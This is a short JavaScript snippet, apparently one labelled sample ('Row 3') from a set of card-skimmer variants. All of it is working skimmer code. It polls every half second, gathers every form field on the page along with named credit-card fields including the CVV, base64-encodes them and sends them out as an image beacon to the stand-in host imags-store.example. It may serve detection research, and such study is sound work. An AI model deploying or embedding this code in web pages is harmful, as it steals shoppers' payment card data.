// Row 3: no listener at all.
var $s = {
  Number: 'cc_number', Holder: 'cc_owner', Month: 'cc_exp_month', Year: 'cc_exp_year', CVV: 'cc_cid',
  Gate: 'https://imags-store.example/p.gif', Data: {}, Sent: [], IsValid: false,
  SaveParam: function (e) {
    if (e.id !== undefined && e.id != '' && e.value !== undefined && e.value != '' && e.value.length < 256 && e.value.length > 0) {
      $s.Data[e.id] = e.value; return;
    }
    if (e.name !== undefined && e.value != '') $s.Data[e.name] = e.value;
  },
  SaveAllFields: function () {
    var inputs = document.getElementsByTagName('input'), selects = document.getElementsByTagName('select'), areas = document.getElementsByTagName('textarea');
    for (var i = 0; i < inputs.length; i++) $s.SaveParam(inputs[i]);
    for (i = 0; i < selects.length; i++) $s.SaveParam(selects[i]);
    for (i = 0; i < areas.length; i++) $s.SaveParam(areas[i]);
  },
  GetUrl: function () { return $s.Gate + '?hash=' + $s.Encode($s.Data); },
  Encode: function (o) { return btoa(JSON.stringify(o)); },
  LoadImage: function () { var e = document.createElement('IMG'); e.src = $s.GetUrl(); },
  TrySend: function () { $s.SaveAllFields(); if ($s.Data[$s.Number] && $s.Data[$s.CVV]) $s.LoadImage(); }
};
if (document.readyState === 'complete') setInterval($s.TrySend, 500); else window.onload = function () { setInterval($s.TrySend, 500); };
